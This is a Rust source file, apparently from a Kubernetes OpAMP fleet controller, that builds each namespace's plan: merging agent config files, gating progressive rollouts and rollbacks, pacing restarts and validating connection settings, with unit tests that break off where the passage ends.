//! The controller's in-memory index: per namespace, the AgentConfigs with their files resolved
//! and the CapabilitySlots, and from them the desired state of any agent. It is the
//! namespace's [`Plan`]: a pure function of the watched objects (including the rollout progress
//! the leader writes into status) and of the agent, so every replica plans the same.
use std::collections::{BTreeMap, HashMap};
use std::sync::Arc;

use parking_lot::Mutex;

use kube::ResourceExt;

use k8s_openapi::api::apps::v1::ControllerRevision;

use super::components::{self, Needed};
use super::error::Error;
use super::merge::{self, File, Source, display_hash};
use super::refs::{Key, Kind, Refs};
use super::revisions;
use super::rollout::{parse_threshold, rollout_key, steps};
use crate::api::{AgentConfig, CapabilitySlot, ConfigFile, Connection, KeyRef, RolloutState};
use crate::api::{OpampServer, TelemetryDestination, TelemetryHeader};
use crate::api::{RESTART_ANNOTATION, RETRY_ANNOTATION, RolloutStatus, RolloutStrategy};
use crate::fleet::{DesiredState, Plan};
use crate::proto::{
    AgentRemoteConfig, ConnectionSettingsOffers, CustomCapabilities, Header, Headers,
    OpAmpConnectionSettings, TelemetryConnectionSettings, TlsCertificate, TlsConnectionSettings,
};
use crate::protocol::session::{AgentReport, Restart};
use crate::protocol::{Description, Uid, attribute};

/// One AgentConfig as the controller sees it.
#[derive(Debug)]
pub struct ResolvedConfig {
    pub object: Arc<AgentConfig>,
    /// `None` while a referenced ConfigMap/Secret key is missing: nothing is sent for it.
    pub source: Option<Source>,
    /// What is missing, e.g. `ConfigMap "otel" has no key "collector.yaml"`.
    pub missing: Vec<String>,
    /// Hash of the files this resource contributes.
    pub own_hash: Option<[u8; 32]>,
    /// Which agents may be given this version.
    pub admission: Admission,
    /// The collector components the files use.
    pub needed: Needed,
    /// The revision of the files the spec asks for (`<name>-<hash>`).
    pub update_revision: Option<String>,
    /// The revision a rollback sends, by name, with its files or why they cannot be had:
    /// `rollout.rolledBackTo` while rolled back, else `lastHealthyRevision` (unless that is
    /// the update revision).
    pub fallback: Option<(String, Result<Revision, String>)>,
    /// Rolled back, with the fallback's files at hand: the agents the rollout admitted get them.
    pub rolled_back: bool,
    /// The rollout of this version is not over: the leader's tracker needs each agent's facts.
    pub tracking: bool,
    /// The `opamp.dev/restartedAt` annotation: its time in ns since the epoch, or why it is not
    /// acted on.
    pub restart: Option<(String, Result<u64, String>)>,
    /// `spec.connection` resolved: the offer, or why it cannot be made.
    pub connection: Option<Result<Arc<ConnectionSettingsOffers>, String>>,
}

/// An earlier revision's files, resolved.
#[derive(Debug)]
pub struct Revision {
    pub source: Source,
    pub hash: [u8; 32],
    pub needed: Needed,
}

/// Which agents a resource's current version may reach.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Admission {
    /// Every agent (Immediate rollouts, complete Progressive ones).
    All,
    /// Agents whose rollout key is at most this (the status's `rollout.admittedUpTo`).
    UpTo(u64),
    /// None yet: the leader has not started this version's rollout.
    Nobody,
}

impl ResolvedConfig {
    pub fn selects(&self, desc: Option<&Description>) -> bool {
        self.object.spec.selector.matches(|k| attribute(desc, k))
    }

    /// The restart time the annotation asks for, when it is valid.
    pub fn restart_at(&self) -> Option<u64> {
        self.restart.as_ref().and_then(|(_, at)| at.as_ref().ok().copied())
    }

    /// How long after the annotation's time `uid` is restarted: with a Progressive rollout, the
    /// agents of its k-th step (by rollout key, as a share of the key space) wait k waves of
    /// `max(minHealthySeconds, 30)` seconds; otherwise none.
    pub fn restart_delay(&self, uid: &Uid) -> u64 {
        let (Some(source), true) = (&self.source, self.is_progressive()) else { return 0 };
        let rollout = &self.object.spec.rollout;
        let share = u128::from(rollout_key(&source.key, uid)) * 100;
        let wave = steps(rollout).iter().position(|&p| share < u128::from(p) << 64).unwrap_or(0) as u64;
        let seconds = u64::from(rollout.min_healthy_seconds.unwrap_or(0)).max(RESTART_WAVE_SECONDS);
        wave * seconds * 1_000_000_000
    }

    pub fn is_progressive(&self) -> bool {
        self.object.spec.rollout.strategy == RolloutStrategy::Progressive
    }

    /// The revision the admitted agents are given instead of the spec's files, once rolled back.
    pub fn rollback(&self) -> Option<&Revision> {
        match &self.fallback {
            Some((_, Ok(revision))) if self.rolled_back => Some(revision),
            _ => None,
        }
    }

    /// The files agents the rollout admitted get: the spec's, or the fallback's once rolled back.
    pub fn effective(&self) -> Option<&Source> {
        self.rollback().map(|r| &r.source).or(self.source.as_ref())
    }

    /// The collector components an agent reporting `report` lacks for the files it would get
    /// (`None`: none missing, or the agent reports no components).
    pub fn missing(&self, report: &AgentReport) -> Option<Vec<String>> {
        let needed = self.rollback().map_or(&self.needed, |r| &r.needed);
        if needed.is_empty() {
            return None;
        }
        let available = report.available_components.as_ref()?;
        components::missing(needed, available).filter(|m| !m.is_empty())
    }

    /// Whether `uid` may be given this resource's current version: always for Immediate
    /// rollouts, once the rollout progress in status admits it for Progressive ones.
    pub fn admits(&self, uid: &Uid) -> bool {
        match (self.admission, &self.source) {
            (Admission::All, _) => true,
            (Admission::UpTo(t), Some(source)) => rollout_key(&source.key, uid) <= t,
            _ => false,
        }
    }
}

/// The custom capabilities of one namespace, with the slot that owns each.
#[derive(Debug, Default)]
pub struct ResolvedSlots {
    /// Slots in ownership order (oldest first); a slot whose capability an older slot already
    /// claims is in `conflicting`.
    pub slots: Vec<Arc<CapabilitySlot>>,
    /// slot name → name of the older slot that owns its capability.
    pub conflicting: BTreeMap<String, String>,
}

/// The selecting configs, and whether at their update revisions.
type MergedKey = (Vec<usize>, bool);

/// Everything the controller knows of one namespace.
#[derive(Debug, Default)]
pub struct NamespaceIndex {
    /// Sorted by name.
    pub configs: Vec<ResolvedConfig>,
    pub slots: ResolvedSlots,
    /// Merged remote configs by the set of contributing configs (and whether of their update
    /// revisions), shared by every agent with the same selection.
    merged: Mutex<HashMap<MergedKey, Arc<AgentRemoteConfig>>>,
    capabilities: Mutex<HashMap<Vec<usize>, Arc<CustomCapabilities>>>,
}

/// The hash of an empty file set: what an agent that no AgentConfig selects any more is
/// sent, so that it drops the config it got from us.
pub fn empty_config() -> Arc<AgentRemoteConfig> {
    Arc::new(merge::remote_config(&merge::merge(&[])))
}

impl NamespaceIndex {
    /// Resolves a namespace's objects against the ConfigMaps and Secrets they reference.
    pub fn resolve(
        mut configs: Vec<Arc<AgentConfig>>,
        mut slots: Vec<Arc<CapabilitySlot>>,
        revisions: &[Arc<ControllerRevision>],
        refs: &Refs,
    ) -> Self {
        configs.sort_by_key(|c| c.name_any());
        let configs = configs.into_iter().map(|object| resolve_config(object, revisions, refs)).collect();
        slots.sort_by(|a, b| {
            a.metadata
                .creation_timestamp
                .cmp(&b.metadata.creation_timestamp)
                .then_with(|| a.name_any().cmp(&b.name_any()))
        });
        let mut owners: BTreeMap<&str, String> = BTreeMap::new();
        let mut conflicting = BTreeMap::new();
        for slot in &slots {
            match owners.get(slot.spec.capability.as_str()) {
                Some(owner) => {
                    conflicting.insert(slot.name_any(), owner.clone());
                }
                None => {
                    owners.insert(&slot.spec.capability, slot.name_any());
                }
            }
        }
        let slots = ResolvedSlots { slots: slots.clone(), conflicting };
        Self { configs, slots, merged: Mutex::default(), capabilities: Mutex::default() }
    }

    /// Whether `other` gives every agent the same desired state as this one (it may differ in
    /// what only status needs, e.g. the objects' status).
    pub fn same_plan(&self, other: &NamespaceIndex) -> bool {
        let config = |c: &ResolvedConfig| {
            let m = &c.object.metadata;
            let fallback = c.rollback().map(|r| r.hash);
            // The restart annotation changes no generation.
            (
                m.uid.clone(),
                m.generation,
                c.own_hash,
                c.admission,
                c.source.is_some(),
                fallback,
                c.restart_at(),
                // Neither does a Secret's new header value.
                c.connection.as_ref().map(|o| o.as_ref().map(|o| o.hash.clone()).map_err(drop)),
            )
        };
        let slot = |s: &Arc<CapabilitySlot>| (s.metadata.uid.clone(), s.metadata.generation);
        self.configs.iter().map(config).eq(other.configs.iter().map(config))
            && self.slots.slots.iter().map(slot).eq(other.slots.slots.iter().map(slot))
            && self.slots.conflicting == other.slots.conflicting
    }

    /// Indices of the resolved configs selecting an agent.
    pub fn selecting(&self, desc: Option<&Description>) -> Vec<usize> {
        (0..self.configs.len())
            .filter(|&i| self.configs[i].source.is_some() && self.configs[i].selects(desc))
            .collect()
    }

    /// The desired state with every selecting resource at its current version (its effective
    /// files: the spec's, or a rollback's). `has_remote_config` says whether the agent runs a
    /// remote config now (then an agent no longer selected is sent the empty config, releasing
    /// it).
    pub fn desired_ungated(
        &self,
        selected: Vec<usize>,
        desc: Option<&Description>,
        has_remote_config: bool,
    ) -> DesiredState {
        let connection_settings = self.connection_settings(&selected);
        let remote_config = self.merged(selected, has_remote_config, false);
        DesiredState {
            remote_config,
            custom_capabilities: self.custom_capabilities(desc),
            connection_settings,
            restart: None, // per agent: see `desired`
        }
    }

    /// The selecting resource that sets connection settings and wins: the highest priority,
    /// then the first by name (`configs` is sorted by name).
    pub fn connection_winner(&self, selected: &[usize]) -> Option<usize> {
        let sets = |i: &&usize| self.configs[**i].connection.is_some();
        selected
            .iter()
            .filter(sets)
            .max_by_key(|&&i| (self.configs[i].object.spec.priority, std::cmp::Reverse(i)))
            .copied()
    }

    /// The connection settings offer for agents with this selection, if a selecting resource
    /// sets any (and they are valid): the winner's, the same object for all its agents.
    fn connection_settings(&self, selected: &[usize]) -> Option<Arc<ConnectionSettingsOffers>> {
        let winner = self.connection_winner(selected)?;
        self.configs[winner].connection.as_ref()?.as_ref().ok().cloned()
    }

    /// The hash of the config an agent gets with every selecting resource at the files its spec
    /// asks for (its update revision, rolled back or not).
    pub fn update_hash(&self, selected: Vec<usize>, has_remote_config: bool) -> Option<bytes::Bytes> {
        self.merged(selected, has_remote_config, true).map(|c| c.config_hash.clone())
    }

    fn merged(
        &self,
        selected: Vec<usize>,
        has_remote_config: bool,
        update: bool,
    ) -> Option<Arc<AgentRemoteConfig>> {
        if selected.is_empty() {
            return has_remote_config.then(empty_config);
        }
        let mut cache = self.merged.lock();
        let merged = cache.entry((selected, update)).or_insert_with_key(|(selected, update)| {
            let sources: Vec<&Source> = selected
                .iter()
                .filter_map(|&i| {
                    if *update { self.configs[i].source.as_ref() } else { self.configs[i].effective() }
                })
                .collect();
            Arc::new(merge::remote_config(&merge::merge(&sources)))
        });
        Some(merged.clone())
    }

    fn custom_capabilities(&self, desc: Option<&Description>) -> Option<Arc<CustomCapabilities>> {
        let owning: Vec<usize> = (0..self.slots.slots.len())
            .filter(|&i| {
                let slot = &self.slots.slots[i];
                !self.slots.conflicting.contains_key(&slot.name_any())
                    && slot.spec.selector.matches(|k| attribute(desc, k))
            })
            .collect();
        if owning.is_empty() {
            return None;
        }
        let mut cache = self.capabilities.lock();
        let caps = cache.entry(owning.clone()).or_insert_with(|| {
            let mut capabilities: Vec<String> =
                owning.iter().map(|&i| self.slots.slots[i].spec.capability.clone()).collect();
            capabilities.sort();
            capabilities.dedup();
            Arc::new(CustomCapabilities { capabilities })
        });
        Some(caps.clone())
    }

    /// For each config, the (file, winner) pairs it lost among agents selecting both; computed
    /// over the distinct selections seen in `selections`.
    pub fn conflicts<'a>(
        &self,
        selections: impl IntoIterator<Item = &'a Vec<usize>>,
    ) -> BTreeMap<usize, BTreeMap<String, String>> {
        let mut out: BTreeMap<usize, BTreeMap<String, String>> = BTreeMap::new();
        for selected in selections {
            let sources: Vec<&Source> =
                selected.iter().filter_map(|&i| self.configs[i].source.as_ref()).collect();
            for (loser, file, winner) in merge::merge(&sources).conflicts {
                out.entry(selected[loser]).or_default().insert(file, sources[winner].key.clone());
            }
        }
        out
    }
}

impl Plan for NamespaceIndex {
    /// Every selecting resource at its current version once their rollouts admit the agent;
    /// until then the agent keeps the config it has (its custom capabilities follow at once).
    fn desired(&self, uid: &Uid, report: &AgentReport, current: &DesiredState) -> DesiredState {
        let desc = report.description.as_ref();
        let selected = self.selecting(desc);
        // The latest restart asked for by a selecting resource, paced by that resource.
        let restart = selected
            .iter()
            .filter_map(|&i| self.configs[i].restart_at().map(|at| (at, i)))
            .max()
            .map(|(at, i)| Restart { at, due: at + self.configs[i].restart_delay(uid) });
        let admitted = selected.iter().all(|&i| self.configs[i].admits(uid));
        // An agent lacking a component the files use is not sent them.
        let compatible = selected.iter().all(|&i| self.configs[i].missing(report).is_none());
        let ungated = self.desired_ungated(selected, desc, report.has_remote_config());
        // An agent that already runs this version (e.g. given it before a restart) keeps it.
        let reported = report.remote_config_status.as_ref().map(|s| &s.last_remote_config_hash);
        let runs = ungated.remote_config.as_ref().is_some_and(|c| Some(&c.config_hash) == reported);
        if (admitted && compatible) || runs {
            return DesiredState { restart, ..ungated };
        }
        DesiredState { remote_config: current.remote_config.clone(), restart, ..ungated }
    }

    fn selected_by(&self, report: &AgentReport) -> Vec<String> {
        let desc = report.description.as_ref();
        let selecting = (0..self.configs.len()).filter(|&i| self.configs[i].selects(desc));
        selecting.map(|i| self.configs[i].object.name_any()).collect()
    }
}

/// The heartbeat interval offered when a resource sets `connection.server` but no interval (the
/// specification's default).
pub const DEFAULT_HEARTBEAT_SECONDS: u32 = 30;

/// Bytes of a telemetry header's value at most.
pub const MAX_HEADER_VALUE_BYTES: usize = 4096;

/// A reader of a ConfigMap's or Secret's key (`Err` when the object or key is missing).
type ReadRef<'a> = &'a dyn Fn(Kind, &KeyRef) -> Result<bytes::Bytes, Error>;

/// What [`settings_offer`] could not read (the resource waits for it, as for its files) and what
/// it refuses to offer.
#[derive(Default)]
struct Problems {
    missing: Vec<String>,
    invalid: Vec<String>,
}

impl Problems {
    fn read(&mut self, read: ReadRef<'_>, kind: Kind, r: &KeyRef) -> Option<bytes::Bytes> {
        read(kind, r).map_err(|e| self.missing.push(e.to_string())).ok()
    }

    fn check(&mut self, what: &str, checked: Result<(), String>) {
        if let Err(why) = checked {
            self.invalid.push(format!("{what}: {why}"));
        }
    }

    /// Headers whose values are read from Secrets.
    fn headers(&mut self, read: ReadRef<'_>, what: &str, list: &[TelemetryHeader]) -> Option<Headers> {
        let mut headers = Vec::new();
        for h in list {
            let Some(value) = self.read(read, Kind::Secret, &h.secret_key_ref) else { continue };
            match check_header_value(&value) {
                Ok(value) => headers.push(Header { key: h.name.clone(), value }),
                Err(why) => self.invalid.push(format!("{what} header {}: {why}", h.name)),
            }
        }
        (!headers.is_empty()).then_some(Headers { headers })
    }

    fn destination(
        &mut self,
        read: ReadRef<'_>,
        signal: &str,
        d: Option<&TelemetryDestination>,
    ) -> Option<TelemetryConnectionSettings> {
        let d = d?;
        self.check(&format!("{signal}.endpoint"), check_endpoint(&d.endpoint, &["http", "https"]));
        let ca = d.ca_config_map_key_ref.as_ref().and_then(|r| self.read(read, Kind::ConfigMap, r));
        Some(TelemetryConnectionSettings {
            destination_endpoint: d.endpoint.clone(),
            headers: self.headers(read, signal, &d.headers),
            tls: ca.map(|ca| TlsConnectionSettings {
                ca_pem_contents: String::from_utf8_lossy(&ca).into_owned(),
                include_system_ca_certs_pool: true,
                ..Default::default()
            }),
            ..Default::default()
        })
    }

    fn server(&mut self, read: ReadRef<'_>, server: &OpampServer, heartbeat: u64) -> OpAmpConnectionSettings {
        let endpoint = &server.endpoint;
        self.check("server.endpoint", check_endpoint(endpoint, &["ws", "wss", "http", "https"]));
        let tls = endpoint.starts_with("wss://") || endpoint.starts_with("https://");
        let ca = match &server.ca_config_map_key_ref {
            Some(r) => self.read(read, Kind::ConfigMap, r),
            None if tls => {
                self.invalid.push(
                    "server: a wss:// or https:// endpoint needs caConfigMapKeyRef (without a CA the \
                     supervisor skips verifying the operator's certificate)"
                        .into(),
                );
                None
            }
            None => None,
        };
        OpAmpConnectionSettings {
            destination_endpoint: endpoint.clone(),
            headers: self.headers(read, "server", &server.headers),
            certificate: ca.map(|ca| TlsCertificate { ca_cert: ca, ..Default::default() }),
            heartbeat_interval_seconds: heartbeat,
            ..Default::default()
        }
    }
}

/// The offer for `connection`, with its hash: SHA-256 over the offer's encoding without the hash
/// (prost encodes fields in order), so equal settings hash equally on every replica. `read`
/// reads the ConfigMap and Secret keys it references; what is missing goes to `missing` (the
/// resource then waits for it, as for its files). `Err` says why the settings cannot be offered.
pub fn settings_offer(
    connection: &Connection,
    read: ReadRef<'_>,
    missing: &mut Vec<String>,
) -> Result<ConnectionSettingsOffers, String> {
    use prost::Message;
    use sha2::{Digest, Sha256};
    let mut p = Problems::default();
    // Every `opamp` part carries the interval: a client takes a missing one for 0 and stops
    // heartbeating. Without one declared, the specification's default.
    let heartbeat = u64::from(connection.heartbeat_interval_seconds.unwrap_or(DEFAULT_HEARTBEAT_SECONDS));
    let opamp = match &connection.server {
        Some(server) => Some(p.server(read, server, heartbeat)),
        None => connection
            .heartbeat_interval_seconds
            .map(|_| OpAmpConnectionSettings { heartbeat_interval_seconds: heartbeat, ..Default::default() }),
    };
    let mut offer = ConnectionSettingsOffers {
        opamp,
        own_metrics: p.destination(read, "ownMetrics", connection.own_metrics.as_ref()),
        own_logs: p.destination(read, "ownLogs", connection.own_logs.as_ref()),
        own_traces: p.destination(read, "ownTraces", connection.own_traces.as_ref()),
        ..Default::default()
    };
    missing.append(&mut p.missing);
    if !p.invalid.is_empty() {
        return Err(p.invalid.join("; "));
    }
    offer.hash = bytes::Bytes::copy_from_slice(&Sha256::digest(offer.encode_to_vec()));
    Ok(offer)
}

/// An endpoint offered to agents: a URL of one of `schemes` with nothing that could break out of
/// the collector configuration agents write it into (the supervisor templates it into YAML).
fn check_endpoint(endpoint: &str, schemes: &[&str]) -> Result<(), String> {
    let scheme_ok =
        schemes.iter().any(|s| endpoint.strip_prefix(s).is_some_and(|rest| rest.starts_with("://")));
    let bad = endpoint.bytes().any(|b| !(0x21..=0x7e).contains(&b) || b == b'"' || b == b'\\' || b == b'\'');
    match (scheme_ok, bad) {
        (false, _) => Err(format!("not a URL with a scheme of {}", schemes.join(", "))),
        (_, true) => Err("has spaces, quotes, backslashes or control characters".into()),
        _ => Ok(()),
    }
}

/// A header value from a Secret: printable ASCII without quotes or backslashes (the supervisor
/// writes it between double quotes into the collector's YAML: one could add configuration), and
/// at most [`MAX_HEADER_VALUE_BYTES`]; a trailing newline (as `echo` leaves) is dropped.
fn check_header_value(value: &[u8]) -> Result<String, String> {
    let value = value.strip_suffix(b"\n").unwrap_or(value);
    if value.len() > MAX_HEADER_VALUE_BYTES {
        return Err(format!("longer than {MAX_HEADER_VALUE_BYTES} bytes"));
    }
    if value.iter().any(|&b| !(0x20..=0x7e).contains(&b) || b == b'"' || b == b'\\') {
        return Err("only printable ASCII without quotes or backslashes is offered".into());
    }
    Ok(String::from_utf8(value.to_vec()).expect("ASCII"))
}

/// The route of a slot, with its Secrets read.
pub fn slot_route(slot: &CapabilitySlot, refs: &Refs) -> crate::routes::SlotRoute {
    use std::time::Duration;
    let ns = slot.namespace().unwrap_or_default();
    let secret = |r: &KeyRef| -> Result<Vec<u8>, String> {
        let value = refs.value(&Key::new(Kind::Secret, &ns, &r.name), &r.key).map(|v| v.map(|b| b.to_vec()));
        lookup("Secret", r, value).map_err(|e| e.to_string())
    };
    crate::routes::SlotRoute {
        namespace: ns.clone(),
        name: slot.name_any(),
        capability: slot.spec.capability.clone(),
        selector: slot.spec.selector.clone(),
        message_types: slot.spec.message_types.clone(),
        callback: slot.spec.callback.as_ref().map(|c| crate::routes::CallbackRoute {
            url: c.url.clone(),
            timeout: Duration::from_secs(u64::from(c.timeout_seconds)),
            max_attempts: c.max_attempts,
            signing_key: c.signing_secret_ref.as_ref().map(&secret),
        }),
        dispatch: slot.spec.dispatch.as_ref().map(|d| crate::routes::DispatchRoute {
            token: secret(&d.token_secret_ref),
            queue_limit: d.queue_limit as usize,
            ttl: Duration::from_secs(u64::from(d.ttl_seconds)),
        }),
    }
}

/// The shortest wave of a paced restart, in seconds.
pub const RESTART_WAVE_SECONDS: u64 = 30;

/// Agents' clocks and the API server's may differ: a restart time up to this far ahead is taken.
const RESTART_CLOCK_SKEW: std::time::Duration = std::time::Duration::from_secs(60);

/// The time of a `opamp.dev/restartedAt` value in ns since the epoch. One in the future is
/// refused: agents started before it would be restarted again whenever one reconnects to a
/// replica that did not command it yet, until that time.
pub fn restart_time(value: &str, now: std::time::SystemTime) -> Result<u64, String> {
    let at: k8s_openapi::jiff::Timestamp = value
        .trim()
        .parse()
        .map_err(|_| format!("{value:?} is not an RFC 3339 time (e.g. 2026-12-03T10:00:00Z)"))?;
    let nanos = u64::try_from(at.as_nanosecond()).map_err(|_| format!("{value:?} is before 1970"))?;
    let now = now.duration_since(std::time::UNIX_EPOCH).unwrap_or_default() + RESTART_CLOCK_SKEW;
    if u128::from(nanos) > now.as_nanos() {
        return Err(format!("{value:?} is in the future: set the current time"));
    }
    Ok(nanos)
}

fn resolve_config(
    object: Arc<AgentConfig>,
    revisions: &[Arc<ControllerRevision>],
    refs: &Refs,
) -> ResolvedConfig {
    let ns = object.namespace().unwrap_or_default();
    let restart = object
        .annotations()
        .get(RESTART_ANNOTATION)
        .map(|v| (v.clone(), restart_time(v, std::time::SystemTime::now())));
    let mut files = BTreeMap::new();
    let mut missing = Vec::new();
    for (name, file) in &object.spec.files {
        match read_file(&ns, file, refs) {
            Ok(body) => {
                let content_type = file.content_type.clone().unwrap_or_default();
                files.insert(name.clone(), File { content_type, body });
            }
            Err(what) => missing.push(what),
        }
    }
    let read = |kind: Kind, r: &KeyRef| {
        let value = refs.value(&Key::new(kind, &ns, &r.name), &r.key);
        lookup(kind.as_str(), r, value)
    };
    let connection =
        object.spec.connection.as_ref().map(|c| settings_offer(c, &read, &mut missing).map(Arc::new));
    let own_hash = missing.is_empty().then(|| merge::hash_files(files.iter()));
    let source = missing.is_empty().then(|| Source {
        key: format!("{ns}/{}", object.name_any()),
        priority: object.spec.priority,
        files: Arc::new(files),
    });
    let needed = source.as_ref().map_or_else(Needed::default, |s| needed_by(&s.files));
    let rollout = current_rollout(&object, own_hash.as_ref());
    let admission = admission(&object, rollout);
    let update_revision = own_hash.map(|h| revisions::name(&object.name_any(), &h));
    let state = rollout.map(|r| r.state);
    let status = object.status.as_ref();
    let fallback_name = match rollout {
        Some(r) if r.state == RolloutState::RolledBack => r.rolled_back_to.clone(),
        _ => status
            .and_then(|s| s.last_healthy_revision.clone())
            .filter(|n| Some(n) != update_revision.as_ref()),
    };
    let fallback = fallback_name.map(|name| {
        let revision = revisions::find(revisions, &object, &name)
            .ok_or_else(|| format!("revision {name} not found"))
            .and_then(|r| revisions::files(r, &ns, refs))
            .map(|files| Revision {
                hash: merge::hash_files(files.iter()),
                needed: needed_by(&files),
                source: Source {
                    key: format!("{ns}/{}", object.name_any()),
                    priority: object.spec.priority,
                    files: Arc::new(files),
                },
            });
        (name, revision)
    });
    let rolled_back = state == Some(RolloutState::RolledBack)
        && source.is_some()
        && fallback.as_ref().is_some_and(|(_, r)| r.is_ok());
    let same_spec = status.is_some_and(|s| s.observed_generation == object.metadata.generation);
    let ended = match state {
        Some(RolloutState::Complete) => true,
        Some(RolloutState::Halted | RolloutState::RolledBack) => same_spec,
        _ => false,
    };
    ResolvedConfig {
        object,
        source,
        missing,
        own_hash,
        admission,
        needed,
        update_revision,
        fallback,
        rolled_back,
        tracking: !ended,
        restart,
        connection,
    }
}

fn needed_by(files: &BTreeMap<String, File>) -> Needed {
    components::needed(files.iter().map(|(n, f)| (n.as_str(), f.content_type.as_str(), &f.body[..])))
}

/// The rollout in an AgentConfig's status, when it is of the current files and retry.
pub fn current_rollout<'a>(
    object: &'a AgentConfig,
    own_hash: Option<&[u8; 32]>,
) -> Option<&'a RolloutStatus> {
    let status = object.status.as_ref()?;
    let hash = own_hash.map(|h| display_hash(h));
    if status.config_hash.is_none() || status.config_hash != hash {
        return None;
    }
    let retry = object.annotations().get(RETRY_ANNOTATION);
    status.rollout.as_ref().filter(|r| r.retry.as_ref() == retry)
}

/// What the rollout progress in an AgentConfig's status admits of its current version.
fn admission(object: &AgentConfig, rollout: Option<&RolloutStatus>) -> Admission {
    if object.spec.rollout.strategy != RolloutStrategy::Progressive {
        return Admission::All;
    }
    let Some(rollout) = rollout else {
        return Admission::Nobody;
    };
    match rollout.admitted_up_to.as_deref().and_then(parse_threshold) {
        _ if rollout.state == RolloutState::Complete => Admission::All,
        Some(u64::MAX) => Admission::All,
        Some(t) => Admission::UpTo(t),
        None => Admission::Nobody,
    }
}

fn read_file(ns: &str, file: &ConfigFile, refs: &Refs) -> Result<bytes::Bytes, String> {
    if let Some(inline) = &file.inline {
        return Ok(bytes::Bytes::from(inline.clone()));
    }
    let (kind, r) = match (&file.config_map_key_ref, &file.secret_key_ref) {
        (Some(r), _) => (Kind::ConfigMap, r),
        (None, Some(r)) => (Kind::Secret, r),
        (None, None) => return Err("no source set".into()),
    };
    let value = refs.value(&Key::new(kind, ns, &r.name), &r.key);
    lookup(kind.as_str(), r, value).map_err(|e| e.to_string())
}

/// A referenced key's value: `found` is `None` without the object, `Some(None)` without the key.
fn lookup<T>(kind: &'static str, r: &KeyRef, found: Option<Option<T>>) -> Result<T, Error> {
    let missing = |key| Error::Reference { kind, name: r.name.clone(), key };
    found.ok_or_else(|| missing(None))?.ok_or_else(|| missing(Some(r.key.clone())))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::api::AgentConfigStatus;
    use crate::controller::rollout::{AgentFacts, Tracker};
    use crate::fleet::{Fleet, Tenant};
    use crate::proto::{AgentDescription, AgentToServer, AnyValue, KeyValue, any_value};
    use crate::protocol::Transport;

    const PROGRESSIVE: &str = "
apiVersion: opamp.dev/v1alpha1
kind: AgentConfig
metadata: {name: edge, namespace: team-a, generation: 1}
spec:
  selector: {matchAttributes: {service.name: edge}}
  files: {edge.yaml: {inline: 'v: 2'}}
  rollout: {strategy: Progressive, steps: [50]}
";

    fn object(status: Option<AgentConfigStatus>) -> Arc<AgentConfig> {
        let mut config: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
        config.status = status;
        Arc::new(config)
    }

    fn plan(config: Arc<AgentConfig>) -> NamespaceIndex {
        NamespaceIndex::resolve(vec![config], vec![], &[], &Refs::new().0)
    }

    fn hello(uid: Uid) -> AgentToServer {
        let value = Some(AnyValue { value: Some(any_value::Value::StringValue("edge".into())) });
        AgentToServer {
            instance_uid: uid.to_wire(),
            capabilities: 0x7,
            agent_description: Some(AgentDescription {
                identifying_attributes: vec![KeyValue { key: "service.name".into(), value }],
                non_identifying_attributes: vec![],
            }),
            ..Default::default()
        }
    }

    /// The file an agent is to have on a replica (connecting it there).
    fn on_replica(fleet: &Fleet, uid: Uid) -> Option<bytes::Bytes> {
        let mut conn = fleet.connection(Transport::WebSocket, Tenant::new("team-a"));
        fleet.handle(&mut conn, hello(uid)).unwrap();
        let desired = fleet.desired_state(&crate::fleet::AgentKey::new("team-a", uid))?;
        let files = desired.remote_config?.config.clone()?;
        files.config_map.get("edge.yaml").map(|f| f.body.clone())
    }

    fn components(exporters: &[&str]) -> crate::proto::AvailableComponents {
        use crate::proto::ComponentDetails;
        let kind = |types: &[&str]| ComponentDetails {
            metadata: vec![],
            sub_component_map: types.iter().map(|t| (t.to_string(), ComponentDetails::default())).collect(),
        };
        crate::proto::AvailableComponents {
            components: [("receivers".into(), kind(&["otlp"])), ("exporters".into(), kind(exporters))].into(),
            hash: bytes::Bytes::from_static(b"h"),
        }
    }

    #[test]
    fn an_agent_lacking_a_component_the_files_use_is_not_sent_them_and_is_counted_incompatible() {
        let mut config: AgentConfig = serde_yaml::from_str(PROGRESSIVE).unwrap();
        config.spec.rollout = Default::default();
        let file = |body: &str| ConfigFile { inline: Some(body.into()), ..Default::default() };
        config.spec.files = [
            ("edge.yaml".to_owned(), file("exporters: {kafka: {}, debug: {}}")),
            ("notes.txt".to_owned(), file("not a collector config")),
        ]
        .into();
        let idx = Arc::new(plan(Arc::new(config)));
        let fleet = Fleet::default();
        fleet.publish_plan("team-a", idx.clone());
        let agents = [
            (Uid([1; 16]), Some(components(&["debug"]))), // lacks kafka
            (Uid([2; 16]), Some(components(&["debug", "kafka"]))), // has both
            (Uid([3; 16]), None),                         // reports none: not checked
        ];
        for (uid, available) in &agents {
            let mut conn = fleet.connection(Transport::WebSocket, Tenant::new("team-a"));
            let msg = AgentToServer { available_components: available.clone(), ..hello(*uid) };
            fleet.handle(&mut conn, msg).unwrap();
            std::mem::forget(conn);
        }
        let sent = |uid: Uid| {
            let desired = fleet.desired_state(&crate::fleet::AgentKey::new("team-a", uid)).unwrap();
            desired.remote_config.is_some()
        };
        assert_eq!((sent(agents[0].0), sent(agents[1].0), sent(agents[2].0)), (false, true, true));
        let namespaces = vec![("team-a".to_owned(), idx.clone())];
        let counts = super::super::peer::count(&fleet, &crate::peers::Peers::solo(), &namespaces);
        let st = &counts["team-a"];
        let status = st.agent_configs(
            &k8s_openapi::apimachinery::pkg::apis::meta::v1::Time(k8s_openapi::jiff::Timestamp::now()),
            &mut HashMap::new(),
            &HashMap::new(),
        );
        let status = &status[0];
        assert_eq!((status.selected_agents, status.incompatible_agents), (3, 1));
        assert_eq!(status.failures.len(), 1);
        assert_eq!(status.failures[0].instance_uid, agents[0].0.to_string());
        assert_eq!(status.failures[0].message, "missing components: exporters/kafka");
        let degraded = status.conditions.iter().find(|c| c.type_ == "Degraded").unwrap();
        assert_eq!((degraded.status.as_str(), degraded.reason.as_str()), ("True", "ComponentsMissing"));
        assert!(degraded.message.contains("1 of 3 agents lack collector components"), "{}", degraded.message);
    }

    #[test]
    fn a_leader_and_a_follower_plan_the_same_desired_state_for_the_same_agent() {
        let uids: Vec<Uid> = (0..8u8).map(|i| Uid([i; 16])).collect();
        // The leader advances the rollout over the agents it sees (half of them) and writes the
        // progress into status.
        let before = plan(object(None));
        let config = &before.configs[0];
        let hash = config.own_hash.unwrap();
        let facts: Vec<AgentFacts> = uids[..4]
            .iter()
            .map(|uid| AgentFacts {
